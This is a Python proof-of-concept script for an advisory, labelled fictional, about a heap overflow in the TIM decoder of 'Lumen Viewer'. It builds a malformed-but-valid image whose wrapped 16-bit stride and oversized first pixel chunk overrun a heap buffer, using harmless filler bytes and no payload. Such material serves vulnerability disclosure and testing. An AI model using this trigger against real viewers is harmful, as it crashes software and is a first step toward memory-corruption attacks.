#!/usr/bin/env python3
"""Proof of concept for HS-2026-0001 (fictional CVE-2026-99001).

Heap overflow in the TIM decoder of Lumen Viewer 4.2.0 - 4.7.3 (timcodec).
tim_decode_rows() computes the row stride as (uint16_t)(width * 4), allocates
that many bytes for the row buffer, then copies the whole first pixel chunk into
it. A width above 0x3fff wraps the stride, and a first chunk whose length is at
least height * 2 writes past the heap buffer.

This script writes poc.tim, a well-formed TIM file that meets every trigger
condition. It is not malicious: chunk bodies are a repeating filler ramp, so a
crash dump shows how far the copy went. Opening the file in an affected viewer
crashes it with a heap-corruption error (Windows: exception 0xc0000374 in
timcodec.dll; Linux: "malloc(): corrupted top size", or an ASan
heap-buffer-overflow report in tim_decode_rows).
"""

from __future__ import annotations

import argparse
import struct
import sys
import time
import zlib

MAGIC = b"TIM1"
CHUNK_RAW = 1
CHUNK_RLE = 2
CHUNK_PALETTE = 0x10
CHUNK_TEXT = 0x20

# The decoder keeps the stride in 16 bits: any width above this wraps it.
STRIDE_LIMIT = 0x3fff
MAX_HEIGHT = 0x400
COMMENT_SIZE = 16


def _chunk_crc(kind: int, body: bytes) -> int:
    """CRC-32 over the kind (u2, little endian) followed by the body."""
    kind_bytes = struct.pack("<H", kind)
    checksum = zlib.crc32(kind_bytes)
    checksum = zlib.crc32(body, checksum)
    return checksum & 0xffffffff


def _pack_chunk(kind: int, body: bytes) -> bytes:
    """One chunk: u2 kind, u2 length, the body, u4 CRC-32."""
    if len(body) > 0xffff:
        raise ValueError(f"a chunk body of {len(body)} bytes does not fit a u2 length")
    header = struct.pack("<HH", kind, len(body))
    trailer = struct.pack("<I", _chunk_crc(kind, body))
    return header + body + trailer


def _filler(length: int, seed: int = 0x41) -> bytes:
    """A harmless ramp of bytes: seed, seed + 1, ... wrapping at 256."""
    buf = bytearray(length)
    value = seed
    for pos in range(length):
        buf[pos] = value
        value = (value + 1) & 0xff
    return bytes(buf)


def _pack_header(width: int, height: int, created: int, comment: str) -> bytes:
    """Magic, u4 width, u4 height, u4 creation time, 16-byte ASCII comment."""
    text = comment.encode("ascii", errors="replace")[:COMMENT_SIZE]
    padded = text + b"\x00" * (COMMENT_SIZE - len(text))
    fields = struct.pack("<III", width, height, created)
    return MAGIC + fields + padded


def _truncated_stride(width: int) -> int:
    """The row size the vulnerable decoder allocates: width * 4, kept in 16 bits."""
    return (width * 4) & 0xffff


def _unmet_conditions(width: int, height: int, first_kind: int, first_length: int) -> list[str]:
    """Every trigger condition of the advisory that this layout does not meet."""
    problems = []
    if width <= STRIDE_LIMIT:
        problems.append(f"width {width:#x} does not exceed {STRIDE_LIMIT:#x}, the stride does not wrap")
    if not 1 <= height <= MAX_HEIGHT:
        problems.append(f"height {height} is outside 1..{MAX_HEIGHT}")
    if first_kind not in (CHUNK_RAW, CHUNK_RLE):
        problems.append(f"the first chunk (kind {first_kind}) is not pixel data")
    if first_length < height * 2:
        problems.append(f"the first chunk holds {first_length} bytes, fewer than height * 2")
    return problems


def _build_poc(width: int, height: int, created: int, comment: str, overflow: int) -> bytes:
    """The whole file: header, an oversized RAW pixel chunk, then a harmless text chunk."""
    stride = _truncated_stride(width)
    length = max(height * 2, stride + overflow)
    problems = _unmet_conditions(width, height, CHUNK_RAW, length)
    if problems:
        raise ValueError("the file would not trigger the bug: " + "; ".join(problems))
    pixels = _pack_chunk(CHUNK_RAW, _filler(length, seed=0x41))
    note = _pack_chunk(CHUNK_TEXT, b"lumen-poc")
    return _pack_header(width, height, created, comment) + pixels + note


def _describe(data: bytes, width: int, height: int) -> str:
    """A short summary for the console."""
    stride = _truncated_stride(width)
    first_length = struct.unpack_from("<H", data, 34)[0]
    lines = [
        f"file size      : {len(data)} bytes",
        f"width x height : {width:#x} x {height}",
        f"row buffer     : {stride} bytes (wrapped from {width * 4})",
        f"first chunk    : {first_length} bytes, {first_length - stride} past the buffer",
    ]
    return "\n".join(lines)


def _parse_args(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description="Write poc.tim for HS-2026-0001 (TIM decoder heap overflow, non-malicious)."
    )
    parser.add_argument("-o", "--output", default="poc.tim", help="where to write the file")
    parser.add_argument("--width", type=lambda s: int(s, 0), default=0x4010,
                        help="image width; must exceed 0x3fff (default 0x4010)")
    parser.add_argument("--height", type=int, default=64, help="image height, 1..1024")
    parser.add_argument("--overflow", type=int, default=256,
                        help="bytes written past the row buffer (default 256)")
    parser.add_argument("--comment", default="HS-2026-0001", help="16-byte ASCII comment")
    return parser.parse_args(argv)


def main(argv: list[str] | None = None) -> int:
    args = _parse_args(argv)
    created = int(time.time())
    if not 1_500_000_000 <= created <= 1_800_000_000:
        created = 1_767_225_600
    try:
        data = _build_poc(args.width, args.height, created, args.comment, args.overflow)
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2
    with open(args.output, "wb") as out:
        out.write(data)
    print(f"wrote {args.output}")
    print(_describe(data, args.width, args.height))
    return 0


if __name__ == "__main__":
    sys.exit(main())
